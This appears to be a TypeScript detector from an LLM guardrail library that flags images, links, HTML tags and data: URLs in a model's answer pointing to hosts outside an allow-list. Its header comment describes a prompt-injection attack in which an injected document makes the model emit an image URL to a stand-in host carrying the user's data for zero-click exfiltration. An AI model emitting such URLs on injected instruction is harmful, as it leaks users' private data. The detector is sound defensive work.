/**
 * Exfiltration through what the answer makes the reader's client fetch or open. An injected
 * document tells the model to write `![](https://evil.example/p.png?d=<the user's data>)`; the
 * chat UI renders the image and the browser sends the data, with no click ("zero-click"
 * exfiltration, as in EchoLeak, CVE-2025-32711). Links need a click but carry data the same way.
 *
 * Finds Markdown images, links and references, HTML tags with URL attributes and written-out URLs
 * (see exfil/*.ts), reads each URL's host as a browser would, and reports those outside
 * `allowHosts`:
 * - `exfiltration.image`: anything fetched without a click (Markdown and HTML images, iframes,
 *   scripts, stylesheets, media, CSS `url()`, meta refresh): high, whatever the URL;
 * - `exfiltration.link`: clickable links: medium, high when the URL carries data (long or
 *   encoded values, prose, many parameters, encoded subdomains, credentials, a redirect out of an
 *   allowed host) or is a `javascript:` URL;
 * - `exfiltration.data_url`: `data:` URLs in images, links and tags (high for HTML and SVG, which
 *   can script or phish), low when merely written out in text.
 *
 * Each finding spans the whole construct (the `![alt](url)`, the tag, the URL), so the
 * `neutralize` action replaces it with plain text. Output channel only.
 */
import { z } from 'zod';
import type { DetectorDescriptor, Finding, Severity } from '../types.ts';
import { bareCandidates } from './exfil/bare.ts';
import { htmlCandidates } from './exfil/html.ts';
import { markdownCandidates } from './exfil/markdown.ts';
import type { Candidate, Construct } from './exfil/text.ts';
import { jumpTables } from './exfil/text.ts';
import { checkUrl, compileAllowList, type HostAllowList, type UrlIssue } from './exfil/url-check.ts';

const hostPattern = z
  .string()
  .min(1)
  .max(255)
  .refine((h) => {
    try {
      compileAllowList([h]);
      return true;
    } catch {
      return false;
    }
  }, 'must be a host name, an IP address or a *.domain wildcard');

const optionsSchema = z.strictObject({
  allowHosts: z
    .array(hostPattern)
    .max(1000)
    .default([])
    .describe('Hosts the answer may load from or link to: exact (`docs.acme.com`, `10.0.0.5`) or `*.acme.com` (subdomains). Empty: every host is external.'),
  links: z
    .enum(['all', 'data', 'none'])
    .default('all')
    .describe('Clickable links to other hosts: all (medium, high when carrying data), data (only those carrying data), none. Images are always reported.'),
});
export type ExfilLinkOptions = z.output<typeof optionsSchema>;

const META = { id: 'output-exfil-links', version: '1.0.0' } as const;
const SEVERITY_RANK: Record<Severity, number> = { low: 0, medium: 1, high: 2, critical: 3 };

const CONSTRUCT: Record<Construct, string> = {
  markdown_image: 'Markdown image',
  markdown_link: 'Markdown link',
  reference_definition: 'Markdown reference definition',
  html_tag: 'HTML tag',
  bare_url: 'URL',
};
/** Media types of data URLs that can run script or show a page of their own. */
const ACTIVE_MIME = /^(?:text\/html|image\/svg\+xml|application\/(?:xhtml\+xml|xml|javascript)|text\/(?:xml|javascript))$/;

interface Verdict {
  category: string;
  severity: Severity;
  score: number;
  kind: UrlIssue['kind'];
  explanation: string;
}

function verdict(c: Candidate, use: 'image' | 'link', issue: UrlIssue, links: ExfilLinkOptions['links']): Verdict | null {
  const what = CONSTRUCT[c.construct];
  const carries = issue.signals.length > 0 ? `; the URL carries data (${issue.signals.join(', ')})` : '';
  switch (issue.kind) {
    case 'script_url':
      return { category: 'exfiltration.link', severity: 'high', score: 0.95, kind: issue.kind, explanation: `${what} with a script URL, which runs code in the reader's page when followed.` };
    case 'data_url': {
      const active = ACTIVE_MIME.test(issue.mime ?? '');
      if (c.bare && !active) return { category: 'exfiltration.data_url', severity: 'low', score: 0.5, kind: issue.kind, explanation: `${what}: an embedded data: URL (${issue.mime}) written out in text.` };
      return {
        category: 'exfiltration.data_url',
        severity: active ? 'high' : 'medium',
        score: active ? 0.9 : 0.7,
        kind: issue.kind,
        explanation: `${what} with an embedded data: URL (${issue.mime})${active ? ', a type that can run script or imitate a page' : ''}.`,
      };
    }
    case 'unparseable_url':
    case 'external_host': {
      const unparseable = issue.kind === 'unparseable_url';
      const host = unparseable ? 'a URL a browser may read differently (it does not parse), treated as external' : 'a host outside the allow-list';
      if (use === 'image') {
        return {
          category: 'exfiltration.image',
          severity: 'high',
          score: carries ? 0.99 : unparseable ? 0.8 : 0.95,
          kind: issue.kind,
          explanation: `${what} that the client loads from ${host} as soon as the answer is rendered, with no click (zero-click exfiltration)${carries}.`,
        };
      }
      if (links === 'none' || (links === 'data' && !carries)) return null;
      return {
        category: 'exfiltration.link',
        severity: carries ? 'high' : 'medium',
        score: carries ? 0.9 : 0.6,
        kind: issue.kind,
        explanation: `${what} pointing to ${host}${carries}.`,
      };
    }
  }
}

function better(a: Verdict, b: Verdict | null): boolean {
  return b === null || SEVERITY_RANK[a.severity] > SEVERITY_RANK[b.severity] || (a.severity === b.severity && a.score > b.score);
}

function evaluate(c: Candidate, allow: HostAllowList, links: ExfilLinkOptions['links']): Finding | null {
  let worst: Verdict | null = null;
  const seen = new Set<string>();
  for (const { url, use } of c.urls) {
    const key = `${use}\u0000${url}`;
    if (seen.has(key)) continue;
    seen.add(key);
    const issue = checkUrl(url, use, allow);
    const v = issue && verdict(c, use, issue, links);
    if (v && better(v, worst)) worst = v;
  }
  if (!worst) return null;
  return {
    detector: META.id,
    detectorVersion: META.version,
    category: worst.category,
    start: c.start,
    end: c.end,
    score: worst.score,
    severity: worst.severity,
    rule: `${c.construct}.${worst.kind}`,
    explanation: worst.explanation,
  };
}

/** Whether `at` lies inside one of `sorted` (by start), given `reach[i]` = the largest end among sorted[0..i]. */
function within(sorted: readonly Finding[], reach: readonly number[], at: number): boolean {
  let lo = 0;
  let hi = sorted.length;
  while (lo < hi) {
    const mid = (lo + hi) >> 1;
    if (sorted[mid]!.start <= at) lo = mid + 1;
    else hi = mid;
  }
  return lo > 0 && reach[lo - 1]! > at;
}

/**
 * All exfiltration findings in one text, outermost constructs only (an image inside a flagged link
 * goes with the link), in text order.
 */
export function findExfiltration(text: string, allow: HostAllowList, links: ExfilLinkOptions['links']): Finding[] {
  const { nextSpace, nextNonSpace } = jumpTables(text);
  const bareUrls = (s: string) => bareCandidates(s).map((c) => c.urls[0]!.url);
  const structured: Finding[] = [];
  for (const c of [...markdownCandidates(text, nextSpace, nextNonSpace), ...htmlCandidates(text, bareUrls)]) {
    const f = evaluate(c, allow, links);
    if (f) structured.push(f);
  }
  structured.sort((a, b) => a.start - b.start || b.end - a.end);
  const reach: number[] = [];
  for (const f of structured) reach.push(Math.max(reach.at(-1) ?? -1, f.end));
  const all = [...structured];
  for (const c of bareCandidates(text)) {
    if (within(structured, reach, c.start)) continue;
    const f = evaluate(c, allow, links);
    if (f) all.push(f);
  }
  all.sort((a, b) => a.start - b.start || b.end - a.end);
  const out: Finding[] = [];
  let furthest = -1;
  for (const f of all) {
    if (f.end <= furthest) continue;
    out.push(f);
    furthest = Math.max(furthest, f.end);
  }
  return out;
}

export const exfilLinksDetector: DetectorDescriptor<ExfilLinkOptions> = {
  id: META.id,
  version: META.version,
  description: 'Images, links, HTML tags and URLs in the answer that would send data to a host outside the allow-list.',
  channels: ['output'],
  categories: ['exfiltration.image', 'exfiltration.link', 'exfiltration.data_url'],
  optionsSchema,
  create(options) {
    const allow = compileAllowList(options.allowHosts);
    const { links } = options;
    return ({ text }) => findExfiltration(text, allow, links);
  },
};
